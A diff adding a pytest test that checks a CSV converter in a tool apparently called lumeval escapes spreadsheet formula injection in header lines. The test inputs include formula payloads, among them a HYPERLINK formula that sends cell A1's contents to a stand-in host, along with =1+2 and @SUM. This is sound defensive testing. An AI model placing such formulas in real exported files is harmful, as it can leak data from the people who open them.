@@ -76,3 +76,25 @@ def test_a_duration_metadata_column_is_read(tmp_path, capsys):
     big = _archive(tmp_path / "big.parquet", n=2, exposure=pa.array([5, 10**15], pa.duration("s")))
     code, _, err = run_cli_in_process(["inspect", big], capsys)
     assert_clean_error(code, err, "row 2", "'exposure' column holds a duration that cannot be shown")
+
+
+def test_csv_header_lines_carry_no_spreadsheet_formula(tmp_path, capsys):
+    """A spreadsheet splits a converted CSV's ``# key: value`` lines into cells at their commas;
+    a cell that starts with = + - @ (also after spaces or an opening quote) runs as a formula
+    (OWASP CSV injection). Such pieces get a ' (and a note says so); plain numbers (-5) stay."""
+    import csv
+
+    from lumeval.render.safe import FORMULA_START
+
+    src = _archive(tmp_path / "m.parquet", n=1, Operator=['Jane,=HYPERLINK("http://x.invalid/?"&A1,"click")'],
+                   offsets=["1,-5,+2.5e3"], note=['a, "=1+2"'], **{"x,=1+2": ["v"], "y, @SUM(A1)": ["w"]})
+    out = tmp_path / "m.csv"
+    code, _, err = run_cli_in_process(["convert", src, out], capsys)
+    assert code == 0, err
+    assert "with a ' before a piece after a comma that a spreadsheet would run as a formula" in " ".join(err.split())
+    header = [line for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("#")]
+    assert len(header) == 5
+    for cells in csv.reader(header):
+        for cell in cells[1:]:
+            assert not cell.lstrip(" ").startswith(FORMULA_START) or cell.strip() in ("-5", "+2.5e3"), (cells, cell)
+    assert "# offsets: 1,-5,+2.5e3" in header  # numbers are no formulas: kept as they were
